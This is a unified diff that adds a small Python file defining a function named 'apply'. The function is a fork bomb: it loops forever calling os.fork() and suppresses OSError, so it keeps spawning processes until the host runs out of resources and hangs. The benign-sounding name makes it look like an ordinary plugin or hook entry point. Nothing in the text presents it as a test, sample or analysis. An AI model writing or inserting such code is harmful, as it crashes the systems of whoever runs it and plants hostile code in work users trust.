@@ -1,0 +1,9 @@
+import os
+
+
+def apply(_):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
